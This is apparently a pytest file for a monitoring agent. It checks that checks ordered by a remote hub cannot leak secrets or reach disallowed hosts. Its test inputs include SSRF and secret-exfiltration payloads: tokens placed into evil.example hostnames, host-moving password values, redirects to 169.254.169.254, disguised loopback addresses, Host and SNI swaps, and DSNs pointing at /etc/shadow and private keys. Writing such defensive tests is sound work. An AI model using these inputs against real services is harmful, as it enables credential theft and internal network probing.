"""A hub under somebody else's control: no secret goes where it should not, nothing is probed that is not allowed."""

import asyncio
import socket
from collections.abc import AsyncIterator, Callable, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from monitor.core.model import FailureKind, Result, State
from monitor.core.permit import Hosts, Permit
from monitor.probes import KINDS, Check
from monitor.probes.session import open_context
from tests.probes.conftest import SECRETS, made, observed, secret
from tests.probes.servers import Behaviour, answers, serving

LOOPBACK = ("127.0.0.0/8", "::1")
TOKEN = SECRETS["TOKEN"]


def permit(*allow: str, **secrets: str) -> Permit:
    """An agent's file: what it allows, and one host for each secret."""
    return Permit(Hosts.of(allow), {name: Hosts.of([host]) for name, host in secrets.items()})


def patient(kind: str, **fields: Any) -> Check:
    """A check with time enough for a busy machine: what is refused is refused at once."""
    return made(kind, timeout="10s", **fields)


async def probed(allowed: Permit, kind: str, **fields: Any) -> Result:
    async with open_context(secret, lambda: allowed) as context:
        return await observed(patient(kind, **fields), context)


def kind_of(result: Result) -> FailureKind | None:
    return None if result.failure is None else result.failure.kind


def said(result: Result) -> str:
    """All that the hub gets to see."""
    return repr(result)


@dataclass
class Ear:
    """A server that keeps what it is told."""

    port: int = 0
    heard: bytes = b""
    visits: int = 0
    asked_for: list[str] = field(default_factory=list)


@asynccontextmanager
async def listening(answer: Behaviour | None = None) -> AsyncIterator[Ear]:
    ear = Ear()

    async def behaviour(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        ear.visits += 1
        ear.heard += await reader.read(65_536)
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        await writer.drain()

    async with serving(answer or behaviour) as port:
        ear.port = port
        yield ear


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Callable[[Mapping[str, str]], list[str]]:
    """Sets what names are found to be; gives the list of those that were asked for."""
    real = socket.getaddrinfo

    def use(table: Mapping[str, str]) -> list[str]:
        asked: list[str] = []

        def find(host: Any, port: Any, *arguments: Any, **options: Any) -> Any:
            if host in table or any(char.isalpha() for char in str(host).replace(":", "")):
                asked.append(host)
                options.pop("flags", None)
                return real(table[host], port, *arguments, **options)
            return real(host, port, *arguments, **options)

        monkeypatch.setattr(socket, "getaddrinfo", find)
        return asked

    return use


async def test_an_allowed_target_is_probed_with_its_secret() -> None:
    async with listening() as ear:
        result = await probed(
            permit(*LOOPBACK, TOKEN="127.0.0.1"),
            "http",
            url=f"http://127.0.0.1:{ear.port}/",
            headers={"Authorization": "Bearer ${TOKEN}"},
        )
    assert result.outcome is State.UP, result
    assert f"Authorization: Bearer {TOKEN}".encode() in ear.heard


async def test_a_secret_that_is_not_listed_is_missing_even_where_it_is_set() -> None:
    async with listening() as ear:
        for reference in ("${TOKEN}", "${PASSWORD}", "file:/etc/passwd"):
            result = await probed(
                permit(*LOOPBACK, OTHER="127.0.0.1"),
                "http",
                url=f"http://127.0.0.1:{ear.port}/",
                headers={"X-Token": reference},
            )
            assert kind_of(result) is FailureKind.SECRET_MISSING
            assert result.outcome is State.UNKNOWN
    assert ear.visits == 0


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/?x=${{TOKEN}}",
        "http://127.0.0.1:{port}/${{TOKEN}}/health",
        "http://127.0.0.1:{port}/#${{TOKEN}}",
        "http://u:${{TOKEN}}@127.0.0.1:{port}/${{TOKEN}}",
        "http://127.0.0.1:${{TOKEN}}/",
    ],
)
async def test_a_secret_stands_in_no_path_query_or_port_not_even_of_its_own_host(url: str) -> None:
    async with listening() as ear:
        result = await probed(permit(*LOOPBACK, TOKEN="127.0.0.1"), "http", url=url.format(port=ear.port))
    assert kind_of(result) is FailureKind.SECRET_MISSING, result
    assert ear.visits == 0
    assert TOKEN not in said(result)


async def test_a_name_made_of_a_secret_is_never_asked_for(names: Any) -> None:
    asked = names({})
    allowed = permit("*.evil.example", TOKEN="*.evil.example")
    for kind, fields in (
        ("http", {"url": "http://${TOKEN}.evil.example/"}),
        ("http", {"url": "http://x@${TOKEN}.evil.example/"}),
        ("redis", {"url": "redis://${TOKEN}.evil.example:6379"}),
        ("mysql", {"dsn": "mysql://u@${TOKEN}.evil.example/d"}),
        ("postgres", {"dsn": "postgresql://u@${TOKEN}.evil.example/d"}),
        ("postgres", {"dsn": "host=${TOKEN}.evil.example user=u"}),
        ("postgres", {"dsn": "host=a.evil.example user=u application_name=${TOKEN}"}),
    ):
        result = await probed(allowed, kind, **fields)
        assert kind_of(result) is FailureKind.SECRET_MISSING, (kind, fields, result)
        assert TOKEN not in said(result)
    assert asked == []


async def test_a_secret_goes_to_no_other_host_not_even_an_allowed_one(names: Any) -> None:
    asked = names({})
    async with listening() as ear:
        allowed = permit(*LOOPBACK, "evil.example", TOKEN="api.example.com")
        for kind, fields in (
            ("http", {"url": f"http://127.0.0.1:{ear.port}/", "headers": {"X-Token": "${TOKEN}"}}),
            ("http", {"url": f"http://127.0.0.1:{ear.port}/", "body": "${TOKEN}", "method": "POST"}),
            ("http", {"url": f"http://127.0.0.1:{ear.port}/", "auth": {"bearer": "${TOKEN}"}}),
            ("http", {"url": f"http://api.example.com:${{TOKEN}}@127.0.0.1:{ear.port}/"}),
            ("http", {"url": "http://evil.example/", "auth": {"bearer": "${TOKEN}"}}),
            ("tcp", {"host": "127.0.0.1", "port": ear.port, "send": "${TOKEN}"}),
            ("tcp", {"host": "evil.example", "port": ear.port, "send": "${TOKEN}"}),
            ("redis", {"url": f"redis://:${{TOKEN}}@127.0.0.1:{ear.port}/0"}),
            ("mysql", {"dsn": f"mysql://u:${{TOKEN}}@127.0.0.1:{ear.port}/d"}),
            ("postgres", {"dsn": f"postgresql://u:${{TOKEN}}@127.0.0.1:{ear.port}/d"}),
            ("postgres", {"dsn": f"host=127.0.0.1 port={ear.port} user=u password=${{TOKEN}}"}),
        ):
            result = await probed(allowed, kind, **fields)
            assert kind_of(result) is FailureKind.REFUSED_ADDRESS, (kind, fields, result)
            assert result.outcome is State.UNKNOWN
    assert (ear.visits, asked) == (0, [])


async def test_an_address_whose_host_is_not_the_secrets_is_refused_though_the_secret_holds_it() -> None:
    async with listening() as ear:
        SECRETS_HERE = {
            "DSN": f"postgresql://u:pw@127.0.0.1:{ear.port}/d",
            "REDIS": f"redis://:pw@127.0.0.1:{ear.port}/0",
        }
        allowed = permit(*LOOPBACK, DSN="db.example.com", REDIS="cache.example.com")
        async with open_context(SECRETS_HERE.__getitem__, lambda: allowed) as context:
            for check in (patient("postgres", dsn="${DSN}"), patient("redis", url="${REDIS}")):
                assert kind_of(await observed(check, context)) is FailureKind.REFUSED_ADDRESS
    assert ear.visits == 0


async def test_a_whole_address_may_be_a_secret_of_its_own_host(redis_url: str, postgres_url: str) -> None:
    values = {"REDIS": redis_url, "DSN": postgres_url}
    hosts = {name: Hosts.of([urlsplit(value).hostname or ""]) for name, value in values.items()}
    allowed = Permit(Hosts.of([*LOOPBACK, "localhost"]), hosts)
    async with open_context(values.__getitem__, lambda: allowed) as context:
        for check in (
            patient("redis", url="${REDIS}"),
            patient("postgres", dsn="${DSN}"),
        ):
            result = await observed(check, context)
            assert result.outcome is State.UP, result


async def test_a_password_alone_may_be_a_secret(mariadb_url: str, postgres_url: str) -> None:
    for kind, url in (("mysql", mariadb_url), ("postgres", postgres_url)):
        parts = urlsplit(url)
        template = parts._replace(netloc=f"{parts.username}:${{PW}}@{parts.hostname}:{parts.port}").geturl()
        allowed = Permit(Hosts.of([*LOOPBACK, "localhost"]), {"PW": Hosts.of([parts.hostname or ""])})
        values = {"PW": parts.password or ""}
        async with open_context(values.__getitem__, lambda allowed=allowed: allowed) as context:
            result = await observed(patient(kind, dsn=template), context)
        assert result.outcome is State.UP, result


@pytest.mark.parametrize("value", ["p@evil.example/", "p@evil.example", "x/y", "x?z", "x#y"])
async def test_a_value_that_would_move_the_host_is_refused(value: str, names: Any) -> None:
    asked = names({"good.example": "127.0.0.1"})  # where a connection would be refused
    allowed = permit("*.example", PW="good.example")
    async with open_context(lambda _name: value, lambda: allowed) as context:
        for check in (
            patient("mysql", dsn="mysql://u:${PW}@good.example/d"),
            patient("http", url="http://u:${PW}@good.example/"),
            patient("redis", url="redis://:${PW}@good.example/0"),
        ):
            result = await observed(check, context)
            assert result.outcome is State.UNKNOWN, result
            assert value not in said(result)
    assert set(asked) <= {"good.example"}


async def test_a_redirect_to_a_metadata_address_is_not_followed() -> None:
    for target in ("http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/", "http://[::ffff:169.254.169.254]/"):
        async with listening(answers(status="302 Found", headers=(f"Location: {target}",))) as ear:
            for allowed in (permit(*LOOPBACK), Permit()):
                result = await probed(allowed, "http", url=f"http://127.0.0.1:{ear.port}/")
                assert kind_of(result) is FailureKind.REFUSED_ADDRESS, result


async def test_a_redirect_to_an_address_that_is_not_allowed_is_not_followed(names: Any) -> None:
    names({"inside.example": "127.0.0.3", "front.example": "127.0.0.1"})
    async with listening() as inner:
        for target in (f"http://127.0.0.2:{inner.port}/", f"http://inside.example:{inner.port}/"):
            async with listening(answers(status="302 Found", headers=(f"Location: {target}",))) as ear:
                result = await probed(permit("127.0.0.1/32"), "http", url=f"http://front.example:{ear.port}/")
                assert kind_of(result) is FailureKind.REFUSED_ADDRESS, result
    assert inner.visits == 0


async def test_an_attempt_that_holds_a_secret_follows_no_redirect_to_another_host() -> None:
    async with listening() as other:
        location = f"Location: http://127.0.0.2:{other.port}/"
        async with listening(answers(status="302 Found", headers=(location,))) as ear:
            result = await probed(
                permit(*LOOPBACK, TOKEN="127.0.0.1"),
                "http",
                url=f"http://127.0.0.1:{ear.port}/",
                headers={"X-Token": "${TOKEN}"},
            )
    assert kind_of(result) is FailureKind.REFUSED_ADDRESS, result
    assert other.visits == 0


@pytest.mark.parametrize("address", ["127.0.0.1", "169.254.169.254", "fd00:ec2::254", "::1", "0.0.0.0"])
async def test_a_listed_name_that_leads_to_this_machine_or_its_metadata_is_refused(address: str, names: Any) -> None:
    names({"rebound.example": address})
    allowed = permit("rebound.example")
    async with listening() as ear:
        for kind, fields in (
            ("http", {"url": f"http://rebound.example:{ear.port}/"}),
            ("tcp", {"host": "rebound.example", "port": ear.port}),
            ("tls", {"host": "rebound.example", "port": ear.port}),
            ("redis", {"url": f"redis://rebound.example:{ear.port}"}),
            ("mysql", {"dsn": f"mysql://u@rebound.example:{ear.port}/d"}),
            ("postgres", {"dsn": f"postgresql://u@rebound.example:{ear.port}/d"}),
        ):
            result = await probed(allowed, kind, **fields)
            assert kind_of(result) is FailureKind.REFUSED_ADDRESS, (kind, result)
    assert ear.visits == 0


@pytest.mark.parametrize("host", ["127.0.0.1", "2130706433", "0x7f000001", "127.1", "[::1]", "[::ffff:127.0.0.1]", "0"])
async def test_no_spelling_of_an_address_gets_past_the_list(host: str) -> None:
    async with listening() as ear:
        bare = host.strip("[]")
        for kind, fields in (
            ("http", {"url": f"http://{host}:{ear.port}/"}),
            ("tcp", {"host": bare, "port": ear.port}),
            ("redis", {"url": f"redis://{host}:{ear.port}"}),
            ("mysql", {"dsn": f"mysql://u@{host}:{ear.port}/d"}),
            ("postgres", {"dsn": f"postgresql://u@{host}:{ear.port}/d"}),
        ):
            result = await probed(permit("10.0.0.0/8"), kind, **fields)
            assert result.outcome is State.UNKNOWN or kind_of(result) is FailureKind.NAME_NOT_FOUND, (kind, result)
    assert ear.visits == 0


async def test_a_secret_is_not_led_to_another_tenant_of_its_hosts_address() -> None:
    async with listening() as ear:
        allowed = permit("127.0.0.1", TOKEN="127.0.0.1")
        url = f"http://127.0.0.1:{ear.port}/"
        for kind, fields in (
            ("http", {"url": url, "headers": {"X-Token": "${TOKEN}", "Host": "evil.example"}}),
            ("http", {"url": url, "headers": {"X-Token": "${TOKEN}", "hOST": f"evil.example:{ear.port}"}}),
            (
                "tcp",
                {"host": "127.0.0.1", "port": ear.port, "tls": True, "server_name": "evil.example", "send": "${TOKEN}"},
            ),
        ):
            result = await probed(allowed, kind, **fields)
            assert kind_of(result) is FailureKind.REFUSED_ADDRESS, (fields, result)
        assert ear.visits == 0
        for own in ("127.0.0.1", f"127.0.0.1:{ear.port}"):
            result = await probed(allowed, "http", url=url, headers={"Host": own})
            assert result.outcome is State.UP, result


async def test_another_name_at_an_allowed_address_is_held_to_the_list(names: Any) -> None:
    names({"front.example": "127.0.0.1"})
    async with listening() as ear:
        fields = {"host": "front.example", "port": ear.port, "server_name": "hidden.example"}
        for kind, more in (("tls", {}), ("tcp", {"tls": True})):
            result = await probed(Permit(Hosts.of(["front.example"])), kind, **fields, **more)
            assert kind_of(result) is FailureKind.REFUSED_ADDRESS, result
    assert ear.visits == 0


@pytest.mark.parametrize("method", ["TRACE", "CONNECT"])
async def test_no_request_is_sent_that_shows_what_it_holds(method: str) -> None:
    async with listening() as ear:
        result = await probed(permit(*LOOPBACK), "http", url=f"http://127.0.0.1:{ear.port}/", method=method)
    assert kind_of(result) is FailureKind.REFUSED_ADDRESS
    assert ear.visits == 0


async def test_a_dns_check_asks_no_resolver_that_is_not_allowed() -> None:
    result = await probed(permit("10.0.0.0/8"), "dns", name="example.com", resolver="127.0.0.1:53")
    assert kind_of(result) is FailureKind.REFUSED_ADDRESS


@pytest.mark.parametrize(
    "dsn",
    [
        "host=/var/run/postgresql user=postgres",
        "user=postgres dbname=x",
        "host=127.0.0.1 hostaddr=10.0.0.1 user=u",
        "host=127.0.0.1,10.0.0.1 user=u",
        "host=127.0.0.1 user=u passfile=/etc/shadow",
        "host=127.0.0.1 user=u sslkey=/etc/ssl/private/key.pem",
        "host=127.0.0.1 user=u service=other",
    ],
)
async def test_a_dsn_reads_no_file_and_uses_no_socket_of_this_machine(dsn: str) -> None:
    result = await probed(permit(*LOOPBACK), "postgres", dsn=dsn)
    assert kind_of(result) is FailureKind.REFUSED_ADDRESS, result


async def test_the_password_in_the_environment_is_not_given_to_whoever_a_hub_names(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    passfile = tmp_path / "pgpass"
    passfile.write_text("*:*:*:*:from-the-file\n")
    passfile.chmod(0o600)
    monkeypatch.setenv("PGPASSFILE", str(passfile))
    monkeypatch.setenv("PGPASSWORD", "from-the-environment")
    heard = b""

    async def asks_for_the_password(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal heard
        await reader.read(65_536)
        writer.write(b"N")  # no TLS
        await reader.read(65_536)
        writer.write(b"R\x00\x00\x00\x08\x00\x00\x00\x03")  # the password in clear, please
        heard += await reader.read(65_536)

    async with serving(asks_for_the_password) as port:
        result = await probed(permit(*LOOPBACK), "postgres", dsn=f"postgresql://u@127.0.0.1:{port}/d")
    assert b"from-the" not in heard
    assert result.outcome is not State.UP


async def test_a_kind_that_would_go_past_the_file_is_refused_with_the_reason(tmp_path: Path) -> None:
    result = await probed(Permit(), "sqlite", path=str(tmp_path / "x.db"))
    assert kind_of(result) is FailureKind.REFUSED_ADDRESS
    assert result.failure
    assert result.failure.detail == "an agent does not probe checks of kind sqlite: it could not hold them to its file"


def test_a_new_kind_is_refused_on_agents_until_it_says_that_it_is_held() -> None:
    assert {name for name, kind in KINDS.items() if not kind.guarded} == {"sqlite", "heartbeat"}
